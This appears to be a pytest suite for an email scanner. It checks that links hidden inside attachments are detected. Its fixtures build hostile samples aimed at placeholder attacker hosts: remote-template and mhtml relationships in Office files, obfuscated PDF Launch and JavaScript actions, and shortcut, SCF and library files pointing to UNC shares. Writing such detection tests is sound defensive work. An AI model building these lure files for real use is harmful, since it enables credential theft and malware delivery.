"""Links inside files: documents, shortcuts, what archives hold (threat 61)."""

import base64
import zlib

import pytest
from tests.message.documents import compound, native, onenote, rtf
from tests.message.mails import attachment, mail, take_apart, tarred, zipped
from tests.steps import steps

from gatepost.message.anatomy import Anatomy, Source
from gatepost.message.inside import ALL_OCTETS, OCTETS, Inside
from gatepost.message.links import ASIDES_MAX

URL = "http://evil.example/x"
PAGE = f'<html><body><a href="{URL}">x</a></body></html>'.encode()
RELS = b"""<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"
 Target="%s" TargetMode="External"/>
<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/styles" Target="styles.xml"/></Relationships>"""
WORDS = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
HOSTILE = (b'Target="', b"<", b"&#x41", b"<a", b"Target ", b"http://a.example/" * 10, b"h\0t\0t\0p\0:\0/\0/\0")


def held(name: str, content: bytes) -> Anatomy:
    return take_apart(mail(attachment(name.encode(), content)))


def leads(name: str, content: bytes) -> list[str]:
    """Return the hosts that a mail leads to by an attachment alone."""
    found = held(name, content)
    assert found.unscannable == ()
    return [link.host for link in found.leads]


def related(kind: bytes, target: bytes) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", "word/_rels/document.xml.rels": RELS % (kind, target)})


def worded(content: bytes) -> bytes:
    return zipped({"word/document.xml": WORDS + content})


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.zip", zipped({"page.html": PAGE})),
        ("a.zip", zipped({"page.html": PAGE.decode().encode("utf-16")})),
        ("a.zip", zipped({"picture.svg": PAGE})),
        ("a.zip", zipped({"readme.txt": URL.encode()})),
        ("a.zip", zipped({"open.url": f"[InternetShortcut]\r\nURL={URL}\r\n".encode()})),
        ("a.zip", zipped({"run.js": f'get("{URL}")'.encode()})),
        ("a.zip", zipped({"a.pdf": f"%PDF-1.4\n1 0 obj<</S/URI/URI({URL})>>".encode()})),
        ("a.zip", zipped({"inner.zip": zipped({"page.html": PAGE})})),
        ("a.tar", tarred({"page.html": PAGE})),
        ("a.docx", related(b"hyperlink", URL.encode())),
        ("a.docx", related(b"attachedTemplate", b"https://evil.example/x.dotm")),
        ("a.docx", related(b"oleObject", b"mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html")),
        ("a.docx", related(b"image", b"file:///\\\\evil.example\\share\\x.png")),
        ("a.docx", related(b"hyperlink", b"&#104;ttp://evil.example/x")),
        ("a.docx", worded(b'<w:fldSimple w:instr=" HYPERLINK &quot;http://evil.example/x&quot; "/>')),
        ("a.docx", worded(b'<w:instrText> HYPERLINK "http://evil.example/x" </w:instrText>')),
        (
            "a.odt",
            zipped({"content.xml": b'<?xml version="1.0"?><text:a xlink:href="http://evil.example/x">x</text:a>'}),
        ),
        ("a.doc", compound({"WordDocument": b'\x13 HYPERLINK "http://evil.example/x" \x14'})),
        ("a.xls", compound({"Workbook": b"\xe0\xc9\xea\x79" + URL.encode("utf-16-le") + b"\0\0"})),
        ("a.ppt", compound({"PowerPoint Document": b"\0" + URL.encode("utf-16-le") + b"\0\0"})),
        ("a.doc", compound({"ObjectPool/_1/\x01Ole10Native": native(b"a.html", PAGE)})),
        ("a.one", onenote(PAGE)),
        ("a.rtf", b'{\\rtf1 {\\field{\\*\\fldinst{HYPERLINK "http://evil.example/x"}}}}'),
        ("a.rtf", rtf(b"Package", native(b"a.html", PAGE)[4:])),
        ("a.url", f"[InternetShortcut]\r\nURL={URL}\r\n".encode()),
        ("a.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(68) + URL.encode("utf-16-le")),
    ],
    ids=lambda given: given if isinstance(given, str) else "",
)
def test_threat_61_links_inside_files_are_found(name: str, content: bytes) -> None:
    assert set(leads(name, content)) == {"evil.example"}


def test_links_inside_files_stand_apart_so_that_they_say_nothing_of_how_a_mail_is_written() -> None:
    found = held("a.zip", zipped({"page.html": PAGE}))
    assert found.links == ()
    assert [(link.url, link.source, link.part) for link in found.asides] == [(URL, Source.FILE, 0)]


def test_names_alone_inside_files_are_no_links() -> None:
    assert (
        leads("a.zip", zipped({"readme.txt": b"see evil.com", "page.html": b"<html><body>evil.com</body></html>"}))
        == []
    )


def test_what_a_file_holds_behind_the_octets_that_are_looked_into_holds_no_mail() -> None:
    inside = Inside()
    assert [link.host for link in inside.links(b" " * (OCTETS - 21) + URL.encode(), "text/plain", "", ())] == [
        "evil.example"
    ]
    assert inside.links(b" " * OCTETS + URL.encode(), "text/plain", "", ()) == ()
    for _ in range(ALL_OCTETS // OCTETS):
        inside.links(b" " * OCTETS, "text/plain", "", ())
    assert inside.links(URL.encode(), "text/plain", "", ()) == ()


def test_more_links_in_an_archive_than_are_looked_into_hold_no_mail() -> None:
    text = b" ".join(b"http://a%d.example/" % number for number in range(ASIDES_MAX + 1))
    found = held("a.zip", zipped({"a.txt": text, "b.txt": URL.encode()}))
    assert len(found.asides) == ASIDES_MAX
    assert found.unscannable == ()


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize(("media", "kind"), [("text/xml", ""), ("text/html", ""), ("text/plain", ""), ("", "ole")])
def test_threat_61_hostile_files_end_in_time(text: bytes, media: str, kind: str) -> None:
    content = text * (40_000 // len(text))
    assert steps(lambda: Inside().links(content, media, kind, ())) < 20 * len(content)


def packed(data: bytes) -> bytes:
    """Compress with a window of 2 KB: not all PDFs have one of 32."""
    compressor = zlib.compressobj(wbits=11)
    return compressor.compress(data) + compressor.flush()


@pytest.mark.parametrize(
    "said",
    [
        b"/S/URI/#55RI(http://evil.com/x)",
        b"/S/URI/URI<FEFF" + "http://evil.com/x".encode("utf-16-be").hex().encode() + b">",
        b"/S/Launch/F(http://evil.com/x.exe)",
        b"/S/SubmitForm/F<</FS/URL/F(http://evil.com/x)>>",
        b"/S/JavaScript/JS(app.launchURL\\('http://evil.com/x'\\))",
        b"/S/JavaScript/JS(app.launchURL\\('http\\072//evil.com/x'\\))",
        b"/S/JavaScript/JS 3 0 R>> 3 0 obj <<>> stream\n" + zlib.compress(b"app.launchURL('http://evil.com/x')"),
        b"/S/URI/URI(http://evil.com/a(b)c)",
        b"/S/URI/URI(http://ev\\\r\nil.com/a)",
        b"/S/URI/URI %a remark\n(http://evil.com/a)",
        b"/S/URI/URI 3 0 R>> endobj 3 0 obj (http://evil.com/a) endobj",
        b"/S/Launch/F(\\\\\\\\evil.com\\\\share\\\\x.exe)",
        b">> 3 0 obj <<>> stream\r" + packed(b"/URI (http://evil.com/)"),
        b">> 3 0 obj <</Type/ObjStm/Filter[/A85 /Fl]>>stream\n" + base64.a85encode(packed(b"/URI(http://evil.com/)")),
    ],
)
def test_threat_61_whatever_a_pdf_opens_is_a_link(said: bytes) -> None:
    found = take_apart(mail(attachment(b"a.pdf", b"%PDF-1.4\n<<" + said + b">>\n")))
    assert {link.host for link in found.links} == {"evil.com"}


@pytest.mark.parametrize(
    "said",
    [b"ht\\'74p://evil.com/x", b"http://ev\r\nil.com/x", b"ht\\u116?p://evil.com/x", b"ht{\\b0 t}p://ev\\b0 il.com/x"],
)
def test_threat_61_an_address_is_a_link_however_an_rtf_document_spells_it(said: bytes) -> None:
    document = b'{\\rtf1 {\\field{\\*\\fldinst HYPERLINK "' + said + b'"}}}'
    for entity in (attachment(b"a.rtf", document), attachment(b"a.zip", zipped({"a.rtf": document}))):
        assert "evil.com" in [link.host for link in take_apart(mail(entity)).leads]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.url", b"[InternetShortcut]\r\nURL=about:blank\r\nIconFile=\\\\evil.com\\x.ico\r\n"),
        ("a.url", b"[InternetShortcut]\r\nURL=about:blank\r\nIconFile=\\\\?\\UNC\\evil.com\\x.ico\r\n"),
        ("a.url", b"[InternetShortcut]\r\nURL=about:blank\r\nIconFile=\\\\.\\unc\\evil.com\\x.ico\r\n"),
        ("a.scf", b"[Shell]\r\nIconFile=\\\\evil.com@80\\x\\y.ico\r\n"),
        ("a.library-ms", b"<?xml version='1.0'?><simpleLocation><url>\\\\evil.com\\share</url></simpleLocation>"),
        ("a.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046") + "\\\\evil.com\\x".encode("utf-16-le")),
        ("a.theme", b"[Theme]\r\nBrandImage=\\\\evil.com\\x.png\r\n"),
        ("a.website", b"[InternetShortcut]\r\nURL=https://evil.com/\r\n"),
        ("a.rdp", "full address:s:evil.com:3389\r\nprompt:i:0\r\n".encode("utf-16")),
        ("a.rdp", b"prompt:i:0\r\nGatewayHostName:s:evil.com\r\n"),
    ],
)
def test_shares_that_shortcuts_and_libraries_point_to_are_links(name: str, content: bytes) -> None:
    for part in (attachment(name.encode(), content), attachment(b"a.zip", zipped({name: content}))):
        assert {link.host for link in take_apart(mail(part)).leads} == {"evil.com"}


def test_of_more_shares_than_links_are_kept_the_first_are_looked_at() -> None:
    shares = b"".join(b"\\\\%d.com\\x " % number for number in range(ASIDES_MAX))
    assert "evil.com" in leads("a.scf", b"\\\\evil.com\\x " + shares)
    assert "evil.com" not in leads("a.scf", shares + b"\\\\evil.com\\x ")
